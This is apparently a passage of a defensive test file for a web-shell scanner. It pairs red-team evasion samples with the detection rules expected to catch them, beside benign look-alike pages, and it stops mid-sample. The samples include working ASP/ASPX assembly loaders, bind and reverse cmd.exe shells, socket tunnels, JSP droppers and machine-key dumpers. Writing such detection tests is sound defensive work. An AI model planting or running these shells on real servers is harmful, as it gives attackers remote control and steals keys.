import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { createScanner } from './scanner.js';

// Session 29: the red team's open evasions of session 28 (bench/redteam/README-s28.md, S28R-7 to
// S28R-36), each written again by us, the rules widened to their routes; beside them, pages of the
// same shapes that are not shells. The file's path matters: App_Code's C# and VB are ASP.NET code.
const scanner = createScanner({});
const scan = (src: string, path: string) => scanner.scanBuffer(Buffer.from(src, 'latin1'), path);

// [what, the rule that must be among the findings, path, the file]
const MALICIOUS: [string, string, string, string][] = [
  ['classic ASP (VBScript) decoding a form field with MSXML and loading it through COM AppDomain.Load_3 (S28R-7)', 'mamori_asp_com_dotnet_loader', '/www/r07.asp', `<%
Set x = CreateObject("MSXML2.DOMDocument").createElement("b")
x.DataType = "bin.base64"
x.Text = Request.Form("d")
raw = x.NodeTypedValue
Set d = CreateObject("System.AppDomain").CurrentDomain
Set asm = d.Load_3(raw)
asm.CreateInstance("Q").Equals(Nothing)
%>
`],
  ['the application domain kept in a variable, then its Load given the decoded form field (S28R-8)', 'mamori_aspx_assembly_load', '/www/r08.aspx', `<%@ Page Language="C#" %>
<script runat="server">
void Page_Load(object o, EventArgs e) {
  var dom = AppDomain.CurrentDomain;
  byte[] b = Convert.FromBase64String(Request.Form["k"]);
  dom.Load(b).CreateInstance("U").Equals(this);
}
</script>
`],
  ['Thread.GetDomain().Load of decoded request bytes (S28R-9)', 'mamori_aspx_assembly_load', '/www/r09.aspx', `<%@ Page Language="C#" %>
<script runat="server">
void Page_Load(object o, EventArgs e) {
  byte[] b = Convert.FromBase64String(Request.Form["k"]);
  System.Threading.Thread.GetDomain().Load(b).CreateInstance("U").Equals(this);
}
</script>
`],
  ['Assembly.Load of Base64 read by Context.Request.Form.Get (S28R-10)', 'mamori_aspx_assembly_load', '/www/r10.aspx', `<%@ Page Language="C#" %>
<script runat="server">
void Page_Load(object o, EventArgs e) {
  System.Reflection.Assembly.Load(Convert.FromBase64String(Context.Request.Form.Get("k"))).CreateInstance("U").Equals(Context);
}
</script>
`],
  ['classic ASP (JScript) naming the COM overload in pieces, d["Load_" + 3] (S28R-11)', 'mamori_asp_com_dotnet_loader', '/www/r11.asp', `<%@ Language="JScript" %>
<%
var x = Server.CreateObject("MSXML2.DOMDocument").createElement("b");
x.dataType = "bin.base64"; x.text = Request.Form("d");
var d = Server.CreateObject("System.AppDomain").CurrentDomain;
var asm = d["Load_" + 3](x.nodeTypedValue);
asm.CreateInstance("Q");
%>
`],
  ['request bytes written to a temporary file, then Assembly.LoadFile (S28R-13)', 'mamori_aspx_request_assembly_file', '/www/r13.aspx', `<%@ Page Language="C#" %>
<script runat="server">
void Page_Load(object o, EventArgs e) {
  string p = System.IO.Path.GetTempFileName();
  System.IO.File.WriteAllBytes(p, Convert.FromBase64String(Request.Form["k"]));
  System.Reflection.Assembly.LoadFile(p).CreateInstance("U").Equals(this);
}
</script>
`],
  ['classic ASP deserializing the posted bytes with BinaryFormatter through COM, Deserialize_2 (DotNetToJScript, S28R-14)', 'mamori_asp_com_dotnet_loader', '/www/r14.asp', `<%
Set x = CreateObject("MSXML2.DOMDocument").createElement("b")
x.DataType = "bin.base64" : x.Text = Request.Form("p")
Set stm = CreateObject("System.IO.MemoryStream")
stm.Write_2 x.NodeTypedValue, 0, LenB(x.NodeTypedValue)
stm.Position = 0
Set fmt = CreateObject("System.Runtime.Serialization.Formatters.Binary.BinaryFormatter")
Set d = fmt.Deserialize_2(stm)
d.DynamicInvoke(Array()).CreateInstance("Q")
%>
`],
  ['a bind shell: TcpListener, AcceptTcpClient, cmd.exe fed from the client (S28R-15)', 'mamori_aspx_socket_shell', '/www/r15.aspx', `<%@ Page Language="C#" %>
<%@ Import Namespace="System.Diagnostics" %><%@ Import Namespace="System.IO" %><%@ Import Namespace="System.Net" %><%@ Import Namespace="System.Net.Sockets" %>
<script runat="server">
void Page_Load(object o, EventArgs e) {
  var l = new TcpListener(IPAddress.Any, 4444); l.Start();
  var c = l.AcceptTcpClient(); var ns = c.GetStream();
  var rd = new StreamReader(ns); var wr = new StreamWriter(ns) { AutoFlush = true };
  var p = new Process(); p.StartInfo.FileName = "cmd.exe"; p.StartInfo.UseShellExecute = false;
  p.StartInfo.RedirectStandardInput = true; p.StartInfo.RedirectStandardOutput = true;
  p.OutputDataReceived += (a, x) => wr.WriteLine(x.Data);
  p.Start(); p.BeginOutputReadLine();
  for (string line; (line = rd.ReadLine()) != null; ) p.StandardInput.WriteLine(line);
}
</script>
`],
  ['a reverse shell over new NetworkStream(socket) (S28R-16)', 'mamori_aspx_socket_shell', '/www/r16.aspx', `<%@ Page Language="C#" %>
<%@ Import Namespace="System.Diagnostics" %><%@ Import Namespace="System.IO" %><%@ Import Namespace="System.Net" %><%@ Import Namespace="System.Net.Sockets" %>
<script runat="server">
void Page_Load(object o, EventArgs e) {
  var s = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);
  s.Connect(IPAddress.Parse("192.0.2.9"), 443);
  var ns = new NetworkStream(s); var rd = new StreamReader(ns); var wr = new StreamWriter(ns) { AutoFlush = true };
  var p = new Process(); p.StartInfo.FileName = "cmd.exe"; p.StartInfo.UseShellExecute = false;
  p.StartInfo.RedirectStandardInput = true; p.StartInfo.RedirectStandardOutput = true;
  p.OutputDataReceived += (a, x) => wr.WriteLine(x.Data);
  p.Start(); p.BeginOutputReadLine();
  for (string line; (line = rd.ReadLine()) != null; ) p.StandardInput.WriteLine(line);
}
</script>
`],
  ['a reverse shell whose streams are redirected through a variable in an initializer (S28R-17)', 'mamori_aspx_socket_shell', '/www/r17.aspx', `<%@ Page Language="C#" %>
<%@ Import Namespace="System.Diagnostics" %><%@ Import Namespace="System.IO" %><%@ Import Namespace="System.Net.Sockets" %>
<script runat="server">
void Page_Load(object o, EventArgs e) {
  var tcp = new TcpClient(); tcp.Connect("192.0.2.7", 4444);
  var ns = tcp.GetStream(); var rd = new StreamReader(ns); var wr = new StreamWriter(ns) { AutoFlush = true };
  bool yes = true;
  var psi = new ProcessStartInfo("cmd.exe") { UseShellExecute = false, RedirectStandardInput = yes, RedirectStandardOutput = yes };
  var p = Process.Start(psi);
  p.OutputDataReceived += (a, x) => wr.WriteLine(x.Data); p.BeginOutputReadLine();
  for (string line; (line = rd.ReadLine()) != null; ) p.StandardInput.WriteLine(line);
}
</script>
`],
  ['a tunnel copying the request body into the stream (CopyTo) and the stream into the response', 'mamori_aspx_request_socket_tunnel', '/www/r18.ashx', `<%@ WebHandler Language="C#" Class="T" %>
using System; using System.Web; using System.Net; using System.Net.Sockets;
public class T : IHttpHandler {
  public void ProcessRequest(HttpContext c) {
    var t = new TcpClient(); t.Connect(c.Request.Headers["X-H"], int.Parse(c.Request.Headers["X-P"]));
    var ns = t.GetStream();
    c.Request.InputStream.CopyTo(ns);
    byte[] buf = new byte[65536]; int n = ns.Read(buf, 0, buf.Length);
    c.Response.OutputStream.Write(buf, 0, n);
  }
  public bool IsReusable { get { return false; } }
}
`],
  ['a tunnel answering in hex (BitConverter.ToString) (S28R-19)', 'mamori_aspx_request_socket_tunnel', '/www/r19.aspx', `<%@ Page Language="C#" %>
<%@ Import Namespace="System.Net" %><%@ Import Namespace="System.Net.Sockets" %>
<script runat="server">
void Page_Load(object o, EventArgs e) {
  var s = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);
  s.Connect(new IPEndPoint(IPAddress.Parse(Request.QueryString["h"]), int.Parse(Request.QueryString["p"])));
  s.Send(Request.BinaryRead(Request.TotalBytes));
  byte[] b = new byte[8192]; int n = s.Receive(b);
  Response.Write(BitConverter.ToString(b, 0, n).Replace("-", ""));
}
</script>
`],
  ['a tunnel listening through TcpListener.Create (S28R-20)', 'mamori_aspx_request_socket_tunnel', '/www/r20.aspx', `<%@ Page Language="C#" %>
<%@ Import Namespace="System.Net" %><%@ Import Namespace="System.Net.Sockets" %>
<script runat="server">
void Page_Load(object o, EventArgs e) {
  string op = Request.QueryString["op"];
  if (op == "bind") { var l = TcpListener.Create(int.Parse(Request.QueryString["p"])); l.Start(); Application["s"] = l.AcceptSocket(); }
  else if (op == "put") { ((Socket)Application["s"]).Send(Request.BinaryRead(Request.TotalBytes)); }
  else { byte[] b = new byte[4096]; int n = ((Socket)Application["s"]).Receive(b); Response.BinaryWrite(b); }
}
</script>
`],
  // (a socket kept between requests in Session: one probe sent from a form field and its answer shown is a
  // port checker's shape, red team S29R-9, and not flagged)
  ['a tunnel whose data comes as a form field\'s Base64, its socket kept in Session (S28R-21)', 'mamori_aspx_request_socket_tunnel', '/www/r21.aspx', `<%@ Page Language="C#" %>
<%@ Import Namespace="System.Net" %><%@ Import Namespace="System.Net.Sockets" %>
<script runat="server">
void Page_Load(object o, EventArgs e) {
  if (Request.Form["cmd"] == "open") {
    var s = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);
    s.Connect(new IPEndPoint(IPAddress.Parse(Request.Form["h"]), int.Parse(Request.Form["p"])));
    Session["t"] = s;
    return;
  }
  var t = (Socket)Session["t"];
  t.Send(Convert.FromBase64String(Request.Form["data"]));
  byte[] b = new byte[8192]; int n = t.Receive(b);
  Response.Write(Convert.ToBase64String(b, 0, n));
}
</script>`],
  ['a tunnel writing with Response.Output.Write (S28R-22)', 'mamori_aspx_request_socket_tunnel', '/www/r22.aspx', `<%@ Page Language="C#" %>
<%@ Import Namespace="System.Net" %><%@ Import Namespace="System.Net.Sockets" %>
<script runat="server">
void Page_Load(object o, EventArgs e) {
  var s = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);
  s.Connect(new IPEndPoint(IPAddress.Parse(Request.Headers["X-H"]), 3389));
  s.Send(Request.BinaryRead(Request.TotalBytes));
  byte[] b = new byte[8192]; int n = s.Receive(b);
  Response.Output.Write(Convert.ToBase64String(b, 0, n));
}
</script>
`],
  ['a JSP dropper naming its page in new File(dir, "help.jsp") (S28R-23)', 'mamori_jsp_request_page_dropper', '/www/d23.jsp', `<%@ page import="java.io.*" %><%
String body = request.getParameter("d");
if (body != null) {
  File dir = new File(application.getRealPath("/"));
  FileOutputStream f = new FileOutputStream(new File(dir, "help.jsp"));
  f.write(body.getBytes()); f.close(); out.print("ok");
}
%>
`],
  ['a JSP writing a form field to a file the request names in the web root (S28R-24; the webroot writer, narrowed this session, still reads it)', 'mamori_jsp_webroot_writer', '/www/d24.jsp', `<%@ page import="java.io.*" %><%
String n = request.getParameter("n"); String body = request.getParameter("d");
FileWriter w = new FileWriter(application.getRealPath("/") + n);
w.write(body); w.close(); out.print(n);
%>
`],
  ['a JSP dropper naming its page with String.format("%d.jsp") (S28R-25)', 'mamori_jsp_request_page_dropper', '/www/d25.jsp', `<%@ page import="java.io.*" %><%
String body = request.getParameter("d");
String n = String.format("%d.jsp", System.currentTimeMillis() / 1000);
FileOutputStream f = new FileOutputStream(application.getRealPath("/") + n); f.write(body.getBytes()); f.close(); out.print(n);
%>
`],
  ['a JSP dropper naming its page with concat(".jsp") (S28R-26)', 'mamori_jsp_request_page_dropper', '/www/d26.jsp', `<%@ page import="java.io.*" %><%
String body = request.getParameter("d");
String n = "tmp".concat(".jsp");
FileOutputStream f = new FileOutputStream(application.getRealPath("/") + n); f.write(body.getBytes()); f.close(); out.print(n);
%>
`],
  ['a JSP dropper writing an uploaded part to a .jsp (Part.write, S28R-28)', 'mamori_jsp_request_page_dropper', '/www/d28.jsp', `<%@ page import="java.io.*" %><%
javax.servlet.http.Part p = request.getPart("f");
p.write(application.getRealPath("/") + "up" + System.nanoTime() + ".jsp");
out.print("done");
%>
`],
  ['a JSP dropper copying the request body to a .jsp (Files.copy, S28R-29)', 'mamori_jsp_request_page_dropper', '/www/d29.jsp', `<%@ page import="java.nio.file.*" %><%
Path t = Paths.get(application.getRealPath("/"), "x" + new java.util.Random().nextInt(999) + ".jsp");
Files.copy(request.getInputStream(), t);
out.print(t.getFileName());
%>
`],
  ['a JSP dropper using Files.writeString (S28R-30)', 'mamori_jsp_request_page_dropper', '/www/d30.jsp', `<%@ page import="java.nio.file.*" %><%
String body = request.getParameter("d");
Path t = Paths.get(application.getRealPath("/"), "x" + System.currentTimeMillis() + ".jsp");
Files.writeString(t, body);
out.print(t.getFileName());
%>
`],
  ['a JSP dropper whose page comes in a header (S28R-31)', 'mamori_jsp_request_page_dropper', '/www/d31.jsp', `<%@ page import="java.io.*" %><%
String body = request.getHeader("X-Data");
String n = java.util.UUID.randomUUID() + ".jsp";
FileOutputStream f = new FileOutputStream(application.getRealPath("/") + n); f.write(java.util.Base64.getDecoder().decode(body)); f.close(); out.print(n);
%>
`],
  ['an App_Code HTTP module loading an assembly from the body on a secret header (S28R-32)', 'mamori_aspx_assembly_load', '/www/App_Code/Mod.cs', `using System; using System.Web; using System.Reflection;
public class Mod : IHttpModule {
  public void Init(HttpApplication app) { app.BeginRequest += (s, e) => {
    var c = ((HttpApplication)s).Context;
    if (c.Request.Headers["X-K"] == "7f3a") {
      byte[] b = c.Request.BinaryRead(c.Request.ContentLength);
      Assembly.Load(b).CreateInstance("P").Equals(c);
      c.Response.End();
    } }; }
  public void Dispose() {}
}
`],
  // (a page that gives away the machine keys, as in the SharePoint ToolShell intrusions: two forms of our own)
  ['an ASP.NET page reading the machine key section by reflection (GetApplicationConfig) and writing both keys', 'mamori_aspx_machinekey_dump', '/www/_layouts/15/k.aspx', `<%@ Page Language="C#" %>
<script runat="server">
void Page_Load(object o, EventArgs e) {
  var t = typeof(System.Web.HttpContext).Assembly.GetType("System.Web.Configuration.MachineKeySection");
  var get = t.GetMethod("GetApplicationConfig", System.Reflection.BindingFlags.Static | System.Reflection.BindingFlags.NonPublic);
  dynamic k = get.Invoke(null, null);
  Response.Write(string.Join(";", k.ValidationKey, k.Validation, k.DecryptionKey, k.Decryption));
}
</script>`],
  ['an ASP.NET page reading system.web/machineKey by GetSection and writing the keys', 'mamori_aspx_machinekey_dump', '/www/info.aspx', `<%@ Page Language="C#" %>
<script runat="server">
void Page_Load(object o, EventArgs e) {
  var s = (System.Web.Configuration.MachineKeySection)System.Web.Configuration.WebConfigurationManager.GetSection("system.web/machineKey");
  Response.Output.Write("{0}|{1}", s.ValidationKey, s.DecryptionKey);
}
</script>`],
];

// Uploaders of a few lines, written other ways: suspicious.
const UPLOADERS: [string, string, string][] = [
  ["an uploader saving under Request.PhysicalApplicationPath and the client's name (S28R-36)", '/www/u36a.aspx', `<%@ Page Language="C#" %>
<script runat="server">
void Go(object s, EventArgs e) { if (f.HasFile) f.SaveAs(Request.PhysicalApplicationPath + f.FileName); }
</script>
<form runat="server"><asp:FileUpload id="f" runat="server" /><asp:Button runat="server" OnClick="Go" Text="Send" /></form>
`],
  ["an uploader copying Request.Files[0]'s stream to HostingEnvironment.MapPath and a form field's name (S28R-36)", '/www/u36b.aspx', `<%@ Page Language="C#" %>
<script runat="server">
void Page_Load(object s, EventArgs e) {
  if (Request.Files.Count > 0) { var pf = Request.Files[0];
    using (var o = System.IO.File.Create(System.Web.Hosting.HostingEnvironment.MapPath("~/") + Request.Form["name"])) pf.InputStream.CopyTo(o); }
}
</script>
<form method="post" enctype="multipart/form-data"><input type="file" name="f"><input name="name"><input type="submit"></form>
`],
];

// [what, path, the file]: the same shapes, not shells.
const BENIGN: [string, string, string][] = [
  ['a whois page: a socket to port 43, the domain from the form, the answer written as text', '/www/whois.aspx', `<%@ Page Language="C#" %>
<%@ Import Namespace="System.Net.Sockets" %><%@ Import Namespace="System.IO" %>
<script runat="server">
void Look(object o, EventArgs e) {
  string domain = Request.Form["domain"];
  var c = new TcpClient(); c.Connect("whois.iana.org", 43);
  var s = c.GetStream(); var w = new StreamWriter(s); w.WriteLine(domain); w.Flush();
  string text = new StreamReader(s).ReadToEnd();
  Response.Write(Server.HtmlEncode(text));
}
</script>
`],
  ['a port checker writing the first bytes of a banner in hex', '/www/portcheck.aspx', `<%@ Page Language="C#" %>
<%@ Import Namespace="System.Net.Sockets" %>
<script runat="server">
void Check(object o, EventArgs e) {
  string host = Request.Form["host"]; int port = int.Parse(Request.Form["port"]);
  var s = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);
  try { s.Connect(host, port); byte[] b = new byte[64]; int n = s.Receive(b); Response.Write("open: " + BitConverter.ToString(b, 0, n)); }
  catch { Response.Write("closed"); } finally { s.Close(); }
}
</script>
`],
  ['an App_Code helper running an image converter with a size from the query string', '/www/App_Code/Thumbs.cs', `using System; using System.Diagnostics; using System.Web;
public static class Thumbs {
  public static void Make(HttpRequest req, string src, string dst) {
    int w = int.Parse(req.QueryString["w"] ?? "128");
    var p = new ProcessStartInfo("convert.exe", "\\"" + src + "\\" -resize " + w + " \\"" + dst + "\\"") { UseShellExecute = false, RedirectStandardError = true };
    using (var pr = Process.Start(p)) { pr.WaitForExit(5000); }
  }
}
`],
  ['an App_Code VB data class with a parameterised query', '/www/App_Code/Data.vb', `Imports System.Data.SqlClient
Public Class Data
  Public Shared Function Names(ByVal q As String) As List(Of String)
    Dim r As New List(Of String)
    Using c As New SqlConnection(ConfigurationManager.ConnectionStrings("main").ConnectionString)
      c.Open()
      Dim cmd As New SqlCommand("select name from items where name like @q", c)
      cmd.Parameters.AddWithValue("@q", q & "%")
      Using rd = cmd.ExecuteReader()
        While rd.Read() : r.Add(rd.GetString(0)) : End While
      End Using
    End Using
    Return r
  End Function
End Class
`],
  ['a Global.asax registering routes and tracing errors', '/www/Global.asax', `<%@ Application Language="C#" %>
<script runat="server">
void Application_Start(object sender, EventArgs e) { System.Web.Routing.RouteTable.Routes.MapPageRoute("item", "item/{id}", "~/item.aspx"); }
void Application_Error(object sender, EventArgs e) { var ex = Server.GetLastError(); System.Diagnostics.Trace.TraceError(ex.ToString()); }
</script>
`],
  ["an import page loading posted Base64 into an XmlDocument beside the application domain's name", '/www/import.aspx', `<%@ Page Language="C#" %>
<script runat="server">
void Page_Load(object o, EventArgs e) {
  if (!IsPostBack) return;
  byte[] b = Convert.FromBase64String(Request.Form["xml"]);
  var doc = new System.Xml.XmlDocument(); doc.Load(new System.IO.MemoryStream(b));
  var dom = AppDomain.CurrentDomain;
  info.Text = dom.FriendlyName + " " + doc.DocumentElement.Name;
}
</script>
`],
  ["a Razor page loading a posted picture with an image library's Image.Load(bytes)", '/www/avatar.cshtml', `@page
@using SixLabors.ImageSharp
@functions {
  public void OnPost() {
    var img = Image.Load(Convert.FromBase64String(Request.Form["img"]));
    img.Mutate(x => x.Resize(128, 128));
    img.SaveAsPng(System.IO.Path.Combine("wwwroot/avatars", Guid.NewGuid().ToString("N") + ".png"));
  }
}
<form method="post"><input type="hidden" name="img" /><button>Save</button></form>
`],
  ['a JSP publishing a checked page name as .html in a static folder', '/www/publish.jsp', `<%@ page import="java.io.*" %><%
String page = request.getParameter("page");
String html = request.getParameter("html");
if (page != null && page.matches("[a-z0-9-]{1,40}") && html != null) {
  try (Writer w = new OutputStreamWriter(new FileOutputStream(new File(application.getRealPath("/static"), page + ".html")), "UTF-8")) { w.write(html); }
  response.sendRedirect("list.jsp");
}
%>
`],
  ['a page generating new machine keys for the operator to paste into web.config', '/www/admin/newkeys.aspx', `<%@ Page Language="C#" %>
<script runat="server">
string Hex(int n) { var b = new byte[n]; using (var r = System.Security.Cryptography.RandomNumberGenerator.Create()) r.GetBytes(b); return BitConverter.ToString(b).Replace("-", ""); }
void Page_Load(object o, EventArgs e) {
  Response.Write("<machineKey validationKey=\\"" + Hex(64) + "\\" decryptionKey=\\"" + Hex(32) + "\\" validation=\\"HMACSHA256\\" decryption=\\"AES\\" />");
}
</script>`],
  ['S29R-1: a plugin version page, Assembly.Load of a checked name from the query string', '/www/admin/plugin.aspx', `<%@ Page Language="C#" %>
<%@ Import Namespace="System.Reflection" %>
<script runat="server">
// Admin: shows the version of an installed plugin assembly chosen from the list
protected void Page_Load(object sender, EventArgs e) {
    string name = Request.QueryString["plugin"] ?? "Contoso.Reports";
    if (!System.Text.RegularExpressions.Regex.IsMatch(name, "^[A-Za-z.]{1,60}$")) { lbl.Text = "bad name"; return; }
    try {
        Assembly asm = Assembly.Load(name);
        lbl.Text = Server.HtmlEncode(asm.GetName().Version.ToString());
    } catch (Exception ex) { lbl.Text = Server.HtmlEncode(ex.Message); }
}
</script>
<html><body><h1>Plugin version</h1><asp:Label ID="lbl" runat="server" /></body></html>
`],
  ['S29R-2: a diagnostics page loading System.Web by name and showing the user agent', '/www/diag.aspx', `<%@ Page Language="C#" %>
<script runat="server">
// Diagnostics: framework versions and the client's headers, for support tickets
protected void Page_Load(object sender, EventArgs e) {
    var web = System.Reflection.Assembly.Load("System.Web, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b03f5f7f11d50a3a");
    ver.Text = web.GetName().Version.ToString();
    ua.Text = Server.HtmlEncode(Request.Headers["User-Agent"]);
}
</script>
<html><body><p>System.Web <asp:Literal ID="ver" runat="server" /></p><p>UA <asp:Literal ID="ua" runat="server" /></p></body></html>
`],
  ['S29R-7: a Global.asax resolving plugins, logging errors with the referrer, loading resources by name', '/www/Global.asax', `<%@ Application Language="C#" %>
<%@ Import Namespace="System.Reflection" %>
<%@ Import Namespace="System.IO" %>
<script runat="server">
    void Application_Start(object sender, EventArgs e)
    {
        // plugins in ~/bin/plugins are resolved by name when the pages ask for them
        AppDomain.CurrentDomain.AssemblyResolve += (s, args) =>
        {
            string file = Path.Combine(HttpRuntime.AppDomainAppPath, "bin", "plugins", new AssemblyName(args.Name).Name + ".dll");
            return File.Exists(file) ? Assembly.LoadFrom(file) : null;
        };
    }

    void Application_Error(object sender, EventArgs e)
    {
        var ex = Server.GetLastError();
        File.AppendAllText(Server.MapPath("~/App_Data/errors.log"), DateTime.Now + " " + Request.Url + " " + Request["HTTP_REFERER"] + " " + ex + Environment.NewLine);
    }

    void Session_Start(object sender, EventArgs e)
    {
        Session["theme"] = Request.Cookies["theme"] != null ? Request.Cookies["theme"].Value : "light";
        Session["culture"] = Assembly.Load("App_GlobalResources").GetName().CultureInfo.Name;
    }
</script>
`],
  ['S29R-8: an App_Code Basic-auth module with a pluggable store and a syslog audit over TCP', '/www/App_Code/Modules/BasicAuthModule.cs', `using System;
using System.Configuration;
using System.Net.Sockets;
using System.Reflection;
using System.Security.Cryptography;
using System.Text;
using System.Web;

/// <summary>HTTP Basic authentication for the /api folder, with each login audited to the syslog server.</summary>
public class BasicAuthModule : IHttpModule
{
    ICredentialStore _store;

    public void Init(HttpApplication app)
    {
        // the credential store is pluggable: <add key="credentialStore" value="Contoso.Auth, Contoso.Auth.LdapStore" />
        var parts = ConfigurationManager.AppSettings["credentialStore"].Split(',');
        _store = (ICredentialStore)Assembly.Load(parts[0].Trim()).CreateInstance(parts[1].Trim());
        app.AuthenticateRequest += OnAuthenticate;
    }

    void OnAuthenticate(object sender, EventArgs e)
    {
        var app = (HttpApplication)sender;
        if (!app.Request.Path.StartsWith("/api", StringComparison.OrdinalIgnoreCase)) return;
        string header = app.Request.Headers["Authorization"];
        if (header != null && header.StartsWith("Basic "))
        {
            string pair = Encoding.UTF8.GetString(Convert.FromBase64String(app.Context.Request.Headers["Authorization"].Substring(6)));
            int colon = pair.IndexOf(':');
            if (colon > 0 && _store.Check(pair.Substring(0, colon), pair.Substring(colon + 1)))
            {
                Audit("login ok " + pair.Substring(0, colon));
                return;
            }
        }
        var nonce = new byte[16];
        using (var rng = RandomNumberGenerator.Create()) rng.GetBytes(nonce);
        app.Response.StatusCode = 401;
        app.Response.AddHeader("WWW-Authenticate", "Basic realm=\\"api\\"");
        app.Response.AddHeader("X-Request-Id", Convert.ToBase64String(nonce));
        app.Response.Write("Authentication required");
        app.CompleteRequest();
    }

    static void Audit(string line)
    {
        using (var client = new TcpClient())
        {
            client.Connect(ConfigurationManager.AppSettings["syslogHost"], 514);
            var bytes = Encoding.UTF8.GetBytes("<38>" + DateTime.UtcNow.ToString("s") + " web " + line + "\\n");
            client.GetStream().Write(bytes, 0, bytes.Length);
        }
    }

    public void Dispose() { }
}
`],
  ['S29R-6: an App_Code plugin manager hashing its plugins and loading them by name', '/www/App_Code/PluginManager.cs', `using System;
using System.Collections.Generic;
using System.IO;
using System.Linq;
using System.Reflection;
using System.Security.Cryptography;
using System.Web;

/// <summary>Loads the site's plugins from ~/bin/plugins and checks them against the signed manifest.</summary>
public class PluginManager
{
    readonly List<IPlugin> _plugins = new List<IPlugin>();

    public void LoadAll()
    {
        var dom = AppDomain.CurrentDomain;
        string dir = HttpContext.Current.Server.MapPath("~/bin/plugins");
        foreach (var path in Directory.GetFiles(dir, "*.dll"))
        {
            byte[] hash;
            using (var sha = SHA256.Create()) hash = sha.ComputeHash(File.ReadAllBytes(path));
            if (!Manifest.IsTrusted(Path.GetFileName(path), hash)) continue;
            var name = AssemblyName.GetAssemblyName(path);
            foreach (var t in dom.Load(name).GetTypes().Where(t => typeof(IPlugin).IsAssignableFrom(t) && !t.IsAbstract))
                _plugins.Add((IPlugin)Activator.CreateInstance(t));
        }
    }

    public IPlugin Find(HttpRequest request)
    {
        string id = request["plugin"];
        return _plugins.FirstOrDefault(p => p.Id == id);
    }
}
`],
  ['S29R-11: an App_Code helper saving a signature picture and loading a reporting library from bin', '/www/App_Code/SiteUtil.cs', `using System;
using System.IO;
using System.Reflection;
using System.Web;

/// <summary>Odds and ends used by several pages.</summary>
public static class SiteUtil
{
    /// <summary>The signature pad posts a PNG as Base64; store it beside the order.</summary>
    public static void SaveSignature(int orderId)
    {
        string path = HttpContext.Current.Server.MapPath("~/App_Data/signatures/" + orderId + ".png");
        File.WriteAllBytes(path, Convert.FromBase64String(HttpContext.Current.Request.Form["signature"]));
    }

    /// <summary>The reporting engine ships as a separate assembly, loaded on first use.</summary>
    public static object CreateReportEngine()
    {
        var asm = Assembly.LoadFrom(HttpContext.Current.Server.MapPath("~/bin/reporting/Contoso.Reporting.dll"));
        return asm.CreateInstance("Contoso.Reporting.Engine");
    }

    public static string Version => typeof(SiteUtil).Assembly.GetName().Version.ToString();
}
`],
  ['S29R-10: an App_Code helper reading whois and feeding nslookup', '/www/App_Code/Helpers/DnsTools.cs', `using System;
using System.Diagnostics;
using System.IO;
using System.Net.Sockets;
using System.Text;

/// <summary>Network tools for the admin's "Domain check" page: whois and MX lookups.</summary>
public static class DnsTools
{
    public static string Whois(string domain)
    {
        using (var client = new TcpClient("whois.iana.org", 43))
        using (var stream = client.GetStream())
        {
            var q = Encoding.ASCII.GetBytes(domain + "\\r\\n");
            stream.Write(q, 0, q.Length);
            return new StreamReader(stream, Encoding.ASCII).ReadToEnd();
        }
    }

    public static string MxRecords(string domain)
    {
        var psi = new ProcessStartInfo("nslookup.exe", "-")
        {
            UseShellExecute = false,
            RedirectStandardInput = true,
            RedirectStandardOutput = true,
            CreateNoWindow = true
        };
        using (var p = Process.Start(psi))
        {
            p.StandardInput.WriteLine("set type=MX");
            p.StandardInput.WriteLine(domain);
            p.StandardInput.WriteLine("exit");
            string output = p.StandardOutput.ReadToEnd();
            p.WaitForExit(5000);
            return output;
        }
    }
}
`],
  ['S29R-9: a port checker sending an optional Base64 probe and showing the answer in hex', '/www/admin/portcheck.aspx', `<%@ Page Language="C#" %>
<%@ Import Namespace="System.Net.Sockets" %>
<script runat="server">
    // Admin network tools: TCP port check. Optionally sends a probe (Base64, for binary protocols)
    // and shows the first bytes the service answers, in hex.
    protected void Check_Click(object sender, EventArgs e)
    {
        if (!User.IsInRole("Admins")) { Response.StatusCode = 403; return; }
        using (var client = new TcpClient())
        {
            var ar = client.BeginConnect(Host.Text, int.Parse(Port.Text), null, null);
            if (!ar.AsyncWaitHandle.WaitOne(3000)) { Response.Output.Write("timeout"); return; }
            client.EndConnect(ar);
            var ns = client.GetStream();
            ns.ReadTimeout = 3000;
            if (!string.IsNullOrEmpty(Request.Form["probe"]))
            {
                var probe = Convert.FromBase64String(Request.Form["probe"]);
                ns.Write(probe, 0, probe.Length);
            }
            var buf = new byte[64];
            int n = 0;
            try { n = ns.Read(buf, 0, buf.Length); } catch (System.IO.IOException) { }
            Response.Output.Write("open; answer: {0}", Server.HtmlEncode(BitConverter.ToString(buf, 0, n)));
        }
    }
</script>
<form runat="server">Host <asp:TextBox ID="Host" runat="server" /> Port <asp:TextBox ID="Port" runat="server" />
Probe (Base64) <input name="probe" /> <asp:Button runat="server" Text="Check" OnClick="Check_Click" /></form>
`],
  ['S29R-15: a ticket upload page refusing .jsp names', '/www/tickets/upload.jsp', `<%@ page contentType="text/html; charset=UTF-8" import="java.nio.file.*,javax.servlet.http.Part" %>
<%
  // Attachment upload for support tickets: server pages and scripts are refused, names are made safe.
  String msg = "";
  if ("POST".equals(request.getMethod())) {
    Part part = request.getPart("file");
    String fn = Paths.get(part.getSubmittedFileName()).getFileName().toString().replaceAll("[^A-Za-z0-9._-]", "_");
    String dir = application.getInitParameter("ticketDir");
    String lower = fn.toLowerCase();
    if (Files.exists(Paths.get(dir, fn)) || lower.endsWith(".jsp") || lower.endsWith(".jspx")) {
      msg = "That file name is not allowed.";
    } else if (part.getSize() > 5 * 1024 * 1024) {
      msg = "Too large.";
    } else {
      Files.copy(part.getInputStream(), Paths.get(dir, fn));
      msg = "Saved " + fn;
    }
  }
%>
<html><body>
<form method="post" enctype="multipart/form-data"><input type="file" name="file"><button>Upload</button></form>
<p><%= org.apache.commons.text.StringEscapeUtils.escapeHtml4(msg) %></p>
</body></html>
`],
  ['S29R-16: a feedback page showing the age of index.jsp and appending to a CSV', '/www/feedback.jsp', `<%@ page import="java.io.*,java.util.Date" %>
<%
  // Feedback form: appended to a CSV under WEB-INF; shows when the home page last changed.
  File home = new File(application.getRealPath("/"), "index.jsp");
  if (request.getParameter("comment") != null) {
